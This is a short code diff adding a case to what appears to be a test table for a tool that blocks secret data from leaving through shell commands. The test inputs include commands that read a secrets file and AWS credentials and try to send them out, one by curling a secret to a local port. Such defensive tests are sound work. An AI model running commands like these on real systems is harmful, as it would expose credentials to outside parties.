@@ -11,6 +11,9 @@ shell_flows! {
     a_session_of_its_own: "setsid -w cat $S > out; send out; send script.sh" => "kept out\nsent script.sh", [CONNECT];
     a_child_of_a_child: "sh -c 'sh -c \"cat $HOME/.aws/credentials > out\"'; send out; send script.sh"
         => "kept out\nsent script.sh", [CONNECT];
+    a_program_with_a_secret_in_it:
+        "( read x < $S; printf '#!/bin/sh\\ncurl -s -m 20 -d %s http://127.0.0.1:PORT/ || echo kept' \"$x\" > prog; chmod +x prog ); ./prog"
+        => "kept", [CONNECT];
     two_at_once: "cat $S > a & cat $S > b & cat script.sh > c & wait; send a; send b; send c"
         => "kept a\nkept b\nsent c", [CONNECT];
     many_forks: "for i in $(seq 30); do ( true ) & done; wait; cat $S > out; for i in $(seq 30); do ( true ) & done; wait; send script.sh"
